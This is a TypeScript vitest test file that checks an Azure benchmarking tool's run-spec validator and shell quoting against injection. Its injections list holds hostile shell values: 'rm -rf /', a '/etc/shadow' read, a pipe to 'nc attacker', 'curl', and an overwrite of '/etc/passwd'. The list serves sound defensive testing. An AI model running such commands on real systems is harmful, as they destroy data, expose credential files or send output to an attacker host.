import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { vmPaths } from '../../src/core/azure/cloud-init.js';
import {
  productCloudInitFor,
  validateAzureRunSpec,
  type AzureRunSpec,
} from '../../src/core/azure/resource-specs.js';
import { shellQuote } from '../../src/core/azure/shell-safety.js';
import { sampleRunSpec } from '../support/arm-fake/fake-arm-context.js';

const injections = [
  '; rm -rf /',
  '$(reboot)',
  '`id`',
  'a\nb',
  "it's",
  '"quoted"',
  '${IFS}cat${IFS}/etc/shadow',
  '| nc attacker 1',
  '&& curl x',
  '> /etc/passwd',
  '\r',
  'a\0b',
];

/** Every place a string of a spec can come from, with a way to put a value there. */
const stringInputs: [string, (spec: AzureRunSpec, value: string) => AzureRunSpec][] = [
  ['groupName', (s, v) => ({ ...s, groupName: `bench${v}` })],
  [
    'product.image',
    (s, v) => ({ ...s, product: { ...s.product, image: `${s.product.image}${v}` } }),
  ],
  [
    'product.image (before the digest)',
    (s, v) => ({
      ...s,
      product: { ...s.product, image: `benchacr.azurecr.io/re${v}frame@sha256:${'a'.repeat(64)}` },
    }),
  ],
  [
    'product.healthPath',
    (s, v) => ({ ...s, product: { ...s.product, healthPath: `/health${v}` } }),
  ],
  ['product env name', (s, v) => ({ ...s, product: { ...s.product, env: { [`A${v}`]: '1' } } })],
  ['acrLoginServer', (s, v) => ({ ...s, acrLoginServer: `bench${v}.azurecr.io` })],
  ['identityResourceId', (s, v) => ({ ...s, identityResourceId: `${s.identityResourceId}${v}` })],
  ['runnerImage', (s, v) => ({ ...s, runnerImage: `node:24${v}` })],
  ['vmSizes', (s, v) => ({ ...s, vmSizes: [`Standard_D4s_v5${v}`] })],
  ['loadVmSize', (s, v) => ({ ...s, loadVmSize: `Standard_D4s_v5${v}` })],
  ['regions', (s, v) => ({ ...s, regions: [`westeurope${v}`] })],
  ['sshPublicKey', (s, v) => ({ ...s, sshPublicKey: `${s.sshPublicKey}${v}` })],
];

describe('values that reach a VM', () => {
  it('the sample spec itself is accepted', () => {
    expect(validateAzureRunSpec(sampleRunSpec())).toEqual([]);
  });

  for (const [input, place] of stringInputs) {
    it(`rejects every injection string in ${input}`, () => {
      for (const value of injections) {
        const problems = validateAzureRunSpec(place(sampleRunSpec(), value));
        expect(problems.length, `${input} with ${JSON.stringify(value)}`).toBeGreaterThan(0);
      }
    });
  }

  it('rejects ports and counts that are not plain integers', () => {
    for (const port of [0, 70000, 3000.5, Number.NaN]) {
      expect(
        validateAzureRunSpec({ ...sampleRunSpec(), product: { ...sampleRunSpec().product, port } }),
      ).not.toEqual([]);
    }
    for (const loadAgents of [0, -1, 1.5, 1000]) {
      expect(validateAzureRunSpec({ ...sampleRunSpec(), loadAgents })).not.toEqual([]);
    }
  });

  it('rejects env values that would break the env file, and never shows env values in messages', () => {
    const spec = sampleRunSpec({
      product: { ...sampleRunSpec().product, env: { DB_PASSWORD: 'secret\nEVIL=1' } },
    });
    const problems = validateAzureRunSpec(spec);
    expect(problems).toHaveLength(1);
    expect(JSON.stringify(problems)).not.toContain('secret');
  });

  it('carries single-line env values as inert data: base64 in cloud-init, literal lines in the Docker env file', () => {
    const env = Object.fromEntries(
      injections.filter((v) => !/[\r\n\0]/.test(v)).map((v, i) => [`V${i}`, v]),
    );
    const spec = sampleRunSpec({ product: { ...sampleRunSpec().product, env } });
    expect(validateAzureRunSpec(spec)).toEqual([]);
    const cloudInit = productCloudInitFor(spec);
    for (const value of Object.values(env)) expect(cloudInit).not.toContain(value);

    const envFile = decodeFile(cloudInit, vmPaths.productEnv);
    const lines = envFile.split('\n');
    for (const [name, value] of Object.entries(env)) expect(lines).toContain(`${name}=${value}`);
    expect(envFile.split('\n').filter(Boolean)).toHaveLength(Object.keys(env).length);
  });

  it('sources the settings file in bash and gets back exactly the values, with nothing executed', () => {
    const dir = mkdtempSync(join(tmpdir(), 'bench-conf-'));
    try {
      const spec = sampleRunSpec();
      const conf = decodeFile(productCloudInitFor(spec), vmPaths.productConf);
      writeFileSync(join(dir, 'product.conf'), conf);
      const out = execFileSync(
        'bash',
        [
          '-c',
          'set -eu; . "$1"; printf "%s\\n" "$BENCH_IMAGE" "$BENCH_PORT" "$BENCH_HEALTH_PATH" "$BENCH_ACR" "$BENCH_IDENTITY_ID"',
          'bash',
          join(dir, 'product.conf'),
        ],
        { encoding: 'utf8' },
      );
      expect(out.split('\n').slice(0, 5)).toEqual([
        spec.product.image,
        '3000',
        '/health',
        spec.acrLoginServer,
        spec.identityResourceId,
      ]);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('quotes any string so that bash prints it back unchanged (second wall behind the patterns)', () => {
    for (const value of injections.filter((v) => !v.includes('\0'))) {
      const out = execFileSync('bash', ['-c', `printf %s ${shellQuote(value)}`], {
        encoding: 'utf8',
      });
      expect(out).toBe(value);
    }
  });
});

/** Extracts and decodes one base64 file from a cloud-config. */
function decodeFile(cloudInit: string, path: string): string {
  const match = new RegExp(`- path: ${path}\\n(?: {4}.*\\n)*? {4}content: ([A-Za-z0-9+/=]+)`).exec(
    cloudInit,
  );
  if (!match?.[1]) throw new Error(`no file ${path}`);
  return Buffer.from(match[1], 'base64').toString('utf8');
}
